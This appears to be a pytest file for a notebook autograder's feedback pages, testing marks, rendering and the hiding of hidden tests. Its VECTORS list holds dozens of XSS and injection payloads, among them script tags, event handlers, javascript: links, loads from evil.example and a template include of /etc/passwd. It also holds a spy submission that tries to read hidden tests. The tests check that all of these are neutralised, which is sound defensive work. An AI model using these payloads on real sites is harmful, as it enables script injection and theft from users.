@@ -1,0 +1,487 @@
+"""Feedback pages: what they show, what they never show, and that nothing in them acts."""
+
+import base64
+import html
+import re
+from dataclasses import replace
+from datetime import datetime
+
+import mini
+import nbformat
+import pytest
+from bs4 import BeautifulSoup
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
+
+from nbseal.classroom import record_of
+from nbseal.errors import FeedbackError
+from nbseal.feedback import make_page
+from nbseal.grade import Grader, Times
+from nbseal.outline import outline_of
+from nbseal.sanitise import clean_html, render_markdown, terminal_html
+from nbseal.standing import CellMark, Standing
+
+HIDDEN_LINE = "assert double(1234567) == 2469134, 'double of a large number'"
+SOLUTION_LINE = "return sum([number, number])"
+CELLS = (
+    mini.exercise(
+        "double",
+        f"def double(number):\n    ### BEGIN SOLUTION\n    {SOLUTION_LINE}\n    ### END SOLUTION",
+    ),
+    mini.check(
+        "test_double_examples",
+        "# Self-check (1 point): small numbers.\n"
+        "from IPython.display import HTML, display\n"
+        'if double(2) != 4: display(HTML(\'<img alt="the board" src="data:image/svg+xml;base64,PHN2Zy8+">\'))\n'
+        "assert double(2) == 4, f'double(2) is {double(2)}, not 4'",
+    ),
+    mini.hidden("test_double_large", HIDDEN_LINE, 2),
+    mini.exercise(
+        "quadruple",
+        "def quadruple(number):\n    ### BEGIN SOLUTION\n    return double(double(number))\n    ### END SOLUTION",
+    ),
+    mini.hidden("test_quadruple_all", "assert quadruple(3) == 12, 'quadruple(3)'", 3),
+)
+WRONG = "def double(number):\n    return number"
+RIGHT = "def double(number):\n    return 2 * number"
+FOUR = "def quadruple(number):\n    return double(double(number))"
+PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(20)).decode()
+
+
+@pytest.fixture(scope="module")
+def outline():
+    source, release = mini.assignment(*CELLS)
+    return outline_of(source, release, {})
+
+
+@pytest.fixture(scope="module")
+def grade():
+    """A function that grades a submission for real."""
+    with mini.grading(*CELLS) as graded:
+        yield graded
+
+
+@pytest.fixture(scope="module")
+def right(grade):
+    return grade({"double": RIGHT, "quadruple": FOUR})
+
+
+@pytest.fixture(scope="module")
+def wrong(grade):
+    return grade({"double": WRONG, "quadruple": FOUR})
+
+
+def standing_of(graded, **changes):
+    marks = {r.name: CellMark(r.points, r.points, None, 0, False) for r in graded.results}
+    return replace(Standing("ada", "Ada Lovelace", 0, None, marks), **changes)
+
+
+def page_of(outline, graded, notebook=None, **changes):
+    data = nbformat.writes(notebook or graded.notebook).encode()
+    return make_page(outline, standing_of(graded, **changes), data, record_of(graded))
+
+
+def with_cells(graded, *cells):
+    """The graded notebook with more cells of the student's own, behind the first exercise."""
+    notebook = nbformat.from_dict(graded.notebook)
+    cells = [*notebook.cells[:1], *cells, *notebook.cells[1:]]
+    return nbformat.from_dict({**notebook, "cells": cells})
+
+
+def shows(data, kind="display_data"):
+    """A cell that has shown something."""
+    count = {"execution_count": 1} if kind == "execute_result" else {}
+    return new_code_cell("show()", outputs=[new_output(kind, data=data, **count)])
+
+
+def said(page):
+    """The words of a page, without differences of blanks."""
+    return " ".join(BeautifulSoup(page, "html.parser").get_text(" ").split())
+
+
+# -- what a page says
+
+
+def test_marks(outline, right):
+    """All points, with the total first and a row for each exercise."""
+    soup = BeautifulSoup(page_of(outline, right), "html.parser")
+    assert soup.select_one(".score").get_text(" ", strip=True) == "6 of 6 points"
+    rows = [
+        [c.get_text(" ", strip=True) for c in row.select("th, td")[:2]]
+        for row in soup.select("tbody tr")
+    ]
+    assert rows == [["double", "3 / 3"], ["quadruple", "3 / 3"]]
+    assert "3 of 3 checks passed" in said(str(soup))
+
+
+def test_penalty_and_marks_by_hand(outline, right):
+    """What a person gave counts, extra points too, and being late costs what the gradebook says."""
+    marks = standing_of(right).marks | {"test_double_large": CellMark(1.5, 2, 1, 0.5, True)}
+    when = datetime(2025, 10, 7, 1, 30)
+    page = page_of(outline, right, marks=marks, penalty=0.25, handed_in=when)
+    soup, text = BeautifulSoup(page, "html.parser"), said(page)
+    assert soup.select_one(".score").get_text(" ", strip=True) == "5.25 of 6 points"
+    assert "0.25 points were taken off because it was handed in late" in text
+    assert "Marked by a person 1.5 of 2 points" in text
+    assert "The check itself gave 2; what counts is what a person decided." in text
+    assert "0.5 of the points are extra" in text
+    assert "the total may change" in text
+    assert "handed in 2025-10-07 01:30 UTC" in text
+
+
+def test_a_failed_check_says_why(outline, wrong):
+    """One sentence a check, and the board that a self-check has drawn."""
+    page = page_of(outline, wrong)
+    text = said(page)
+    assert "Failed 0 of 1 points self-check Small numbers. double(2) is 2, not 4" in text
+    assert "Failed 0 of 2 points hidden check Large double of a large number" in text
+    assert 'alt="the board"' in page
+
+
+def test_follow_through(outline, wrong):
+    """Who failed because of an earlier exercise only reads that it was marked without it."""
+    text = said(page_of(outline, wrong))
+    assert "Marked with the course's double in place of yours" in text
+    assert "Passed with the course's double in place of yours." in text
+
+
+def test_comments_of_graders(outline, wrong):
+    """Markdown of a grader is shown at the exercise; automatic notes are, too."""
+    page = page_of(outline, wrong, comments={"double": "Nearly: **twice**!\nThink again."})
+    soup = BeautifulSoup(page, "html.parser")
+    comment = soup.select_one("#part-1 .comment")
+    assert comment.strong.get_text() == "twice"
+    assert comment.br
+    blank = page_of(outline, wrong, notes={"double": "No response."})
+    assert "This cell was handed in as it was given out." in said(blank)
+
+
+def test_no_record(outline, wrong):
+    """After plain grading there are marks and no reasons; the page says that."""
+    data = nbformat.writes(wrong.notebook).encode()
+    text = said(make_page(outline, standing_of(wrong), data, None))
+    assert "Why is not recorded" in text
+    assert "double of a large number" not in text
+
+
+def test_a_broken_file(outline):
+    """Who handed in no notebook gets a page that says so."""
+    source, release = mini.assignment(*CELLS)
+    with Grader(source, release, {}, times=Times(cell=5, total=60)) as grader:
+        graded = grader.grade(b"<html>Please log in</html>")
+    text = said(page_of(outline, graded))
+    assert "Your file could not be read." in text
+    assert graded.remarks[0] in text
+    assert "0 of 6 points" in text
+
+
+def test_faithful_outputs(outline, right):
+    """Texts with colours, errors, pictures, tables, Markdown and LaTeX, each as what it is."""
+    cell = new_code_cell(
+        "x = 1  # a comment",
+        outputs=[
+            new_output("stream", name="stdout", text="\x1b[31mred\x1b[0m 1 < 2\n"),
+            new_output("stream", name="stderr", text="careful\n"),
+            new_output("error", ename="E", evalue="v", traceback=["\x1b[1;32mE\x1b[0m: v <x>"]),
+            new_output("display_data", data={"image/png": PNG, "text/plain": "a curve"}),
+            new_output("display_data", data={"image/svg+xml": "<svg><circle r='1'/></svg>"}),
+            new_output(
+                "display_data", data={"text/html": "<table class='dataframe'><tr><td>7</table>"}
+            ),
+            new_output("display_data", data={"text/markdown": "a **b**"}),
+            new_output("display_data", data={"text/latex": "$\\frac{1}{2}$"}),
+            new_output("execute_result", data={"text/plain": "{1, 2}"}, execution_count=1),
+        ],
+    )
+    words = new_markdown_cell("# Title\n\n$a_1 * b_1 * c$ and *em*\n\n|a|b|\n|-|-|\n|1|2|")
+    page = page_of(outline, right, with_cells(right, cell, words))
+    for part in (
+        '<span class="ansi-red-fg">red</span> 1 &lt; 2',
+        '<pre class="stderr">careful',
+        "E</span>: v &lt;x&gt;",
+        f'alt="a curve" src="data:image/png;base64,{PNG}"',
+        'src="data:image/svg+xml;base64,',
+        '<table class="dataframe">',
+        "a <strong>b</strong>",
+        "$\\frac{1}{2}$",
+        "{1, 2}",
+        "$a_1 * b_1 * c$",
+        "<em>em</em>",
+        '<span class="c1"># a comment</span>',
+    ):
+        assert part in page, part
+
+
+def test_long_outputs_are_cut(outline, right):
+    """The beginning and the end of a long text are shown, and what is left out is said."""
+    long = new_output("stream", name="stdout", text="".join(f"line {k}\n" for k in range(5000)))
+    page = page_of(outline, right, with_cells(right, new_code_cell("p()", outputs=[long])))
+    assert "line 0\n" in page and "line 4999" in page and "line 2500\n" not in page
+    assert "lines are left out here" in page
+    large = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(2_000_000)).decode()
+    many = [shows({"image/png": large}) for _ in range(5)]
+    page = page_of(outline, right, with_cells(right, *many))
+    assert len(page) < 8_000_000
+    assert "this page would become too long" in page
+
+
+def test_the_page_is_one_file(outline, right):
+    """Nothing is asked from elsewhere: a strict policy, and no address but in links."""
+    notebook = with_cells(right, new_markdown_cell("[l](https://e.org/)"))
+    page = page_of(outline, right, notebook)
+    soup = BeautifulSoup(page, "html.parser")
+    policy = soup.select_one('meta[http-equiv="Content-Security-Policy"]')["content"]
+    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
+    assert soup.select_one('a[href="https://e.org/"]')["rel"] == [
+        "noopener",
+        "noreferrer",
+        "nofollow",
+    ]
+    assert not soup.select("script, link, iframe, object, embed, form, [style]")
+    assert page == page_of(outline, right, notebook)
+
+
+# -- nothing acts
+
+VECTORS = [
+    "<script>ran()</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=ran()>",
+    "<img src='http://evil.example/pixel.png' alt='p'>",
+    "<img src='data:text/html,<script>ran()</script>'>",
+    "<img alt='a' src='data:image/svg+xml,<svg onload=ran()>'>",
+    "<img srcset='http://evil.example/x 2x'>",
+    "<svg onload=ran()><script>ran()</script></svg>",
+    "<svg><a xlink:href='javascript:ran()'><text>x</text></a></svg>",
+    "<svg><style><img src=x onerror=ran()></style></svg>",
+    "<svg><svg></svg><image href='http://evil.example/i.png'/></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran()&gt;'>",
+    "<iframe src='javascript:ran()'></iframe>",
+    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
+    "<object data='data:text/html,<script>ran()</script>'></object>",
+    "<embed src='http://evil.example/x.swf'>",
+    "<form action='http://evil.example'><input name=a><button formaction='javascript:ran()'>b</button></form>",
+    "<a href='javascript:ran()'>x</a>",
+    "<a href='java\tscript:ran()'>x</a>",
+    "<a href=' &#106;avascript:ran()'>x</a>",
+    "<a href='data:text/html,<script>ran()</script>'>x</a>",
+    "<a href='vbscript:ran()'>x</a>",
+    "<base href='http://evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<link rel=stylesheet href='http://evil.example/x.css'>",
+    "<style>body{display:none}@import 'http://evil.example/x.css'</style>",
+    "<div style='position:fixed;inset:0;background:url(http://evil.example/x)'>cover</div>",
+    "<details open ontoggle=ran()>x</details>",
+    "<video src='http://evil.example/v' autoplay onplay=ran()></video>",
+    "<audio src=x onerror=ran()></audio>",
+    "<body onload=ran()>",
+    "<table background='http://evil.example/x'><td background='javascript:ran()'>x</table>",
+    "<p id=marks name=marks class='card total'>x</p>",
+    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
+    "<template><script>ran()</script></template>",
+    "<textarea><script>ran()</script></textarea>",
+    "</pre></div></section></main><script>ran()</script>",
+    "</code></pre><img src=x onerror=ran()>",
+    "</style><script>ran()</script>",
+    "</title><script>ran()</script>",
+    "--><script>ran()</script>",
+    "<!--[if IE]><script>ran()</script><![endif]-->",
+    "<![CDATA[<script>ran()</script>]]>",
+    "<?xml-stylesheet href='javascript:ran()'?>",
+    '"><script>ran()</script>',
+    "' onmouseover='ran()",
+    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
+    "\x1b]8;;javascript:ran()\x07link\x1b]8;;\x07",
+    "[x](javascript:ran())",
+    "![x](http://evil.example/x.png)",
+    "<javascript:ran()>",
+    '[x](<javascript:ran()> "t")',
+    "[r]: javascript:ran()\n\n[r]",
+    "`</code><script>ran()</script>`",
+    "```html\n</code></pre><script>ran()</script>\n```",
+    "$</span><script>ran()</script>$",
+    "$$\n</div><script>ran()</script>\n$$",
+    "\\begin{equation}</div><script>ran()</script>\\end{equation}",
+    "|a|\n|-|\n|<script>ran()</script>|",
+]
+PLACES = {
+    "html": lambda v: [shows({"text/html": v})],
+    "html result": lambda v: [shows({"text/html": v, "text/plain": v}, "execute_result")],
+    "svg": lambda v: [shows({"image/svg+xml": f"<svg>{v}</svg>", "text/plain": v})],
+    "javascript": lambda v: [shows({"application/javascript": v, "text/plain": v})],
+    "markdown output": lambda v: [shows({"text/markdown": v})],
+    "latex": lambda v: [shows({"text/latex": v})],
+    "png": lambda v: [shows({"image/png": v, "text/plain": v})],
+    "json": lambda v: [shows({"application/json": {v: v}})],
+    "stdout": lambda v: [
+        new_code_cell("p()", outputs=[new_output("stream", name="stdout", text=v)])
+    ],
+    "error": lambda v: [
+        new_code_cell("e()", outputs=[new_output("error", ename=v, evalue=v, traceback=[v, v])])
+    ],
+    "markdown": lambda v: [new_markdown_cell(v)],
+    "attachment": lambda v: [
+        new_markdown_cell("![x](attachment:a.png)", attachments={"a.png": {"image/png": v, v: PNG}})
+    ],
+    "raw": lambda v: [new_raw_cell(v)],
+    "code": lambda v: [new_code_cell(v)],
+}
+ALLOWED = set(
+    "html head meta title style body header main footer section p h1 h2 h3 h4 h5 h6 span strong b em i div ul ol li table caption thead tbody "
+    "tfoot tr th td a svg symbol use path circle rect details summary pre code img bdi br hr blockquote time del s u q".split()
+)
+
+
+def check_harmless(page):
+    """Independent of how pages are made: by another parser, tag for tag."""
+    soup = BeautifulSoup(page, "html.parser")
+    for tag in soup.find_all(True):
+        assert tag.name in ALLOWED, tag.name
+        for name, value in tag.attrs.items():
+            assert not name.startswith("on") and name not in ("style", "srcset", "srcdoc"), tag
+            if name == "src":
+                assert re.match(r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,", value), tag
+            if name == "href":
+                assert re.match(r"#|https?://|mailto:", value), tag
+    assert len(soup.select("main")) == len(soup.select("style")) == len(soup.select("#marks")) == 1
+
+
+@pytest.mark.parametrize("place", PLACES)
+def test_scripts_are_neutralised(outline, right, place):
+    """Whatever a student's cell holds or shows: no script, handler, request, frame or disguise."""
+    for vector in VECTORS:
+        page = page_of(outline, right, with_cells(right, *PLACES[place](vector)))
+        check_harmless(page)
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_names_comments_and_remarks_are_neutralised(outline, right, vector):
+    """What comes from elsewhere is: names, graders' comments, notes, remarks and reasons."""
+    graded = replace(
+        right,
+        remarks=(vector,),
+        notes={"double": vector},
+        results=tuple(replace(r, verdict="failed", reason=vector) for r in right.results),
+    )
+    changes = {"student": vector, "name": vector, "comments": {"double": vector}}
+    check_harmless(page_of(outline, graded, **changes))
+    check_harmless(page_of(outline, graded, student=vector, name=""))
+
+
+def test_cleaned_html():
+    """Some of it word for word: what stays, what goes."""
+    for given, cleaned in {
+        "<b>x</b><i>y</i>": "<b>x</b><i>y</i>",
+        "<h1 id='a'>T</h1>": '<h1 role="presentation">T</h1>',
+        "<td colspan='2' rowspan=99999>x": "x",
+        "<table><tr><td colspan='2' rowspan='99999'>x</table>": '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
+        "<img src='http://e/x' alt='w'>": "[a picture that is not in the notebook: w]",
+        f"<img src='data:image/png;base64,{PNG}'>": f'<img alt="A picture without a description" src="data:image/png;base64,{PNG}">',
+        "<div>" * 5000: "",
+        "<img>" * 500: "",
+    }.items():
+        assert clean_html(given) == cleaned
+
+
+def test_drawings_become_pictures():
+    """An <svg>, also one inside of another, is a picture, with its title in words."""
+    found = BeautifulSoup(clean_html("a<svg><title>T &amp; U</title><svg/></svg>b"), "html.parser")
+    assert found.get_text() == "ab"
+    assert found.img["alt"] == "T & U"
+    drawing = base64.b64decode(found.img["src"].partition(",")[2]).decode()
+    assert drawing.startswith('<svg xmlns="http://www.w3.org/2000/svg">') and drawing.endswith(
+        "</svg>"
+    )
+
+
+def test_terminals():
+    """Colours out of 256 and of 16 million become the nearest of the page's own."""
+    assert terminal_html("\x1b[38;5;196mx\x1b[0m") == '<span class="ansi-red-fg">x</span>'
+    assert terminal_html("\x1b[38;2;0;200;0mx\x1b[0m") == '<span class="ansi-green-fg">x</span>'
+    assert terminal_html("10%\r20%\rdone\n") == "done\n"
+    assert terminal_html("a\x00b\x1b[2Kc") == "abc"
+    assert "style" not in terminal_html("\x1b[48;5;21;38;5;21mx\x1b[48;2;1;2;3my")
+
+
+def test_long_markdown_stays_text():
+    assert render_markdown("<b>" + "x" * 60_000).startswith("<pre>&lt;b&gt;")
+
+
+# -- nothing hidden is shown
+
+
+def test_hidden_tests_of_the_graded_notebook(outline, right):
+    """An instructor may have them in the graded notebooks; no page has."""
+    notebook = nbformat.from_dict(right.notebook)
+    for cell in notebook.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == "test_double_large":
+            cell.source = HIDDEN_LINE
+            cell.outputs = [new_output("stream", name="stdout", text=HIDDEN_LINE)]
+    page = page_of(outline, right, notebook)
+    assert HIDDEN_LINE not in html.unescape(page)
+    assert "1234567" not in page
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        new_code_cell("p()", outputs=[new_output("stream", name="stdout", text=HIDDEN_LINE)]),
+        new_code_cell("p()", outputs=[new_output("stream", name="stdout", text=f"\x1b[1m{HIDDEN_LINE[:20]}\x1b[0m{HIDDEN_LINE[20:]}")]),
+        new_code_cell("p()", outputs=[new_output("error", ename="E", evalue="", traceback=["x", HIDDEN_LINE])]),
+        shows({"text/html": f"<b>{HIDDEN_LINE[:9]}</b><i>{HIDDEN_LINE[9:]}</i>"}),
+        shows({"text/html": html.escape(HIDDEN_LINE).replace("d", "&#100;")}),
+        shows({"text/html": f"<img alt=\"{HIDDEN_LINE}\" src='data:image/png;base64,{PNG}'>"}),
+        shows({"image/svg+xml": f"<svg><text>{HIDDEN_LINE}</text></svg>"}),
+        shows({"image/svg+xml": f"<svg><text>{HIDDEN_LINE[:9]}<tspan>{HIDDEN_LINE[9:]}</tspan></text></svg>"}),
+        shows({"text/plain": SOLUTION_LINE}),
+    ],
+)  # fmt: skip
+def test_a_leak_is_refused(outline, right, cell):
+    """However a line of a test, or of the solution, got into an output: there is no page."""
+    with pytest.raises(
+        FeedbackError, match=r"would show a line of the hidden .* in the part 'double'"
+    ):
+        page_of(outline, right, with_cells(right, cell))
+
+
+def test_a_leak_in_a_comment(outline, right):
+    """A grader may quote the solution, for that is theirs to decide, and never a hidden test."""
+    assert SOLUTION_LINE in said(page_of(outline, right, comments={"double": f"`{SOLUTION_LINE}`"}))
+    with pytest.raises(FeedbackError, match="comments that were written by hand"):
+        page_of(outline, right, comments={"double": f"`{HIDDEN_LINE}`"})
+
+
+def test_what_a_student_wrote_is_no_leak(outline, right):
+    """Their own line may be that of the solution, and come back in a traceback."""
+    mine = new_code_cell(f"def f(number):\n    {SOLUTION_LINE}")
+    mine.outputs = [new_output("error", ename="E", evalue="", traceback=[SOLUTION_LINE])]
+    assert SOLUTION_LINE in said(page_of(outline, right, with_cells(right, mine)))
+
+
+@pytest.mark.sandbox
+def test_hostile_submissions_show_no_hidden_test(outline, grade):
+    """They print, keep, raise and show all that reaches them; the page has none of it."""
+    spy = (
+        "seen = []\n"
+        "def double(number):\n"
+        "    import sys, inspect\n"
+        "    seen.append(number)\n"
+        "    print('spy', seen, [f.code_context for f in inspect.stack()], file=sys.stderr)\n"
+        "    if number > 1000: raise ValueError(f'spy {number} {seen}')\n"
+        "    return 2 * number"
+    )
+    look = mini.own(
+        "print(seen, globals())\nfor f in __import__('gc').get_objects():\n    if isinstance(f, str) and '2469' in f: print(f)"
+    )
+    graded = grade({"double": spy, "quadruple": FOUR}, {"test_double_large": [look]})
+    page = html.unescape(page_of(outline, graded))
+    assert HIDDEN_LINE not in page
+    assert "1234567" not in page and "2469134" not in page
+
+
+def test_other_marks_are_refused(outline, right):
+    """Verdicts of one grading do not stand beside the marks of another."""
+    marks = standing_of(right).marks | {"test_double_large": CellMark(0, 0, None, 0, False)}
+    with pytest.raises(
+        FeedbackError, match="has 0 points for test_double_large, the graded notebook 2"
+    ):
+        page_of(outline, right, marks=marks)
